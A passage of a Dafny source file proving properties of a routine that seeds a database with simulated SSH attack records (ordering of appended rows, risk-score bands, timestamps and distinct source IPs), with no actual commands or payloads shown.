    requires after.nextAttack == mid.nextAttack + 1 && |after.attacks| == |mid.attacks| + 1
    requires after.attacks[..|mid.attacks|] == mid.attacks
    requires after.attacks[|mid.attacks|]
          == attacks[k].(id := mid.nextAttack, incidentId := after.attacks[|mid.attacks|].incidentId)
    ensures Appended(before, attacks, after)
  {
    var n := |before.attacks|;
    assert after.attacks[..n] == mid.attacks[..n];
    forall i | n <= i < n + k
      ensures after.attacks[i] ==
        attacks[i - n].(id := before.nextAttack + i - n, incidentId := after.attacks[i].incidentId)
    {
      assert after.attacks[i] == mid.attacks[i] && attacks[..k][i - n] == attacks[i - n];
    }
  }

  /** The seeded rows are the drawn attacks in order, behind the old ones and under the next keys. */
  lemma {:induction false} SeedStores(db: Tables, attacks: seq<Attack>)
    ensures Appended(db, attacks, SeedAll(db, attacks).db)
  {
    if attacks == [] {
      AllOf(db.attacks);
    } else {
      var k := |attacks| - 1;
      SeedStores(db, attacks[..k]);
      SeedStepStores(SeedAll(db, attacks[..k]), attacks[k]);
      OneMoreAppended(db, attacks, k, SeedAll(db, attacks[..k]).db, SeedAll(db, attacks).db);
    }
  }

  lemma SeedStepStores(s: Seeding, a: Attack)
    ensures
      var rows, n := SeedStep(s, a).db.attacks, |s.db.attacks|;
      SeedStep(s, a).db.nextAttack == s.db.nextAttack + 1 && |rows| == n + 1 && rows[..n] == s.db.attacks &&
      rows[n] == a.(id := s.db.nextAttack, incidentId := rows[n].incidentId)
  {
  }

  /** What one round draws: a source, the profile whose turn it is with its score moved by at most
      four, an instant of the past day, the level of the default bands, and the profile's commands
      one second apart. */
  lemma DrawnAttack(now: Instant, i: nat, d: Draw)
    requires InRange(d)
    ensures
      var a, profile := SeedAttack(now, i, d), NthProfile(i);
      now - 24 * 3_600_000_000 <= a.timestamp < now && a.authAttempts == d.attempts &&
      0 <= a.riskScore <= 100 && profile.risk - 4 <= a.riskScore <= profile.risk + 4 &&
      a.riskLevel == (if a.riskScore <= 30 then Low else if a.riskScore <= 70 then Medium else High) &&
      a.behaviors == profile.behaviors && a.techniques == profile.techniques &&
      a.isMalicious == (KnownMaliciousSource in a.behaviors) &&
      a.reputation == (if a.isMalicious then 100 else d.reputation)
    ensures DrawnFields(SeedAttack(now, i, d), NthProfile(i), d)
  {
  }

  /** The fields taken from the draw as they are, and the commands. */
  ghost predicate DrawnFields(a: Attack, profile: Profile, d: Draw)
    requires InRange(d)
  {
    |SOURCES| == 7 && Source(a.sourceIp, Text(a.country), Text(a.asn), Text(a.isp)) == SOURCES[d.source] &&
    a.sourcePort == Some(d.port) && a.username == Some(d.username) && a.password == Some(d.password) &&
    a.sshVersion == Some(d.sshVersion) && a.sessionId == d.sessionId && a.duration == d.duration &&
    |a.commands| == |profile.commands| &&
    forall j :: 0 <= j < |a.commands| ==>
      a.commands[j].text == profile.commands[j] && a.commands[j].sessionId == a.sessionId &&
      a.commands[j].timestamp == a.timestamp + (j + 1) * 1_000_000 &&
      (a.commands[j].kind == "exec" <==> j == 0 && d.firstIsExec)
  }

  function Text(s: Option<string>): string { if s.Some? then s.value else "" }

  /** The drawn attacks meet what the results above ask of them. */
  lemma {:induction false} DrawnArePlausible(now: Instant, draws: seq<Draw>)
    requires forall i :: 0 <= i < |draws| ==> InRange(draws[i])
    ensures Plausible(SeedAttacks(now, draws))
  {
    var all := SeedAttacks(now, draws);
    forall i | 0 <= i < |all|
      ensures Truthy(all[i].country) && 0 <= all[i].riskScore <= 100 && all[i].authAttempts >= 1
    {
      SourceAt(draws[i].source);
    }
    forall i, j | 0 <= i < |all| && 0 <= j < |all| && all[i].sourceIp == all[j].sourceIp
      ensures all[i].country == all[j].country
    {
      SourcesDiffer(draws[i].source, draws[j].source);
    }
  }

  lemma SourceAt(i: nat)
    requires i < 7
    ensures |SOURCES| == 7 && SOURCES[i].country != "" && |SOURCES[i].ip| >= 7
    ensures (SOURCES[i].ip[1], SOURCES[i].ip[2])
         == [('8', '5'), ('5', '.'), ('0', '3'), ('9', '1'), ('9', '6'), ('.', '8'), ('1', '2')][i]
  {
  }

  lemma SourcesDiffer(i: nat, j: nat)
    requires i < 7 && j < 7
    ensures |SOURCES| == 7 && (SOURCES[i].ip == SOURCES[j].ip ==> i == j)
  {
    SourceAt(i);
    SourceAt(j);
  }
}
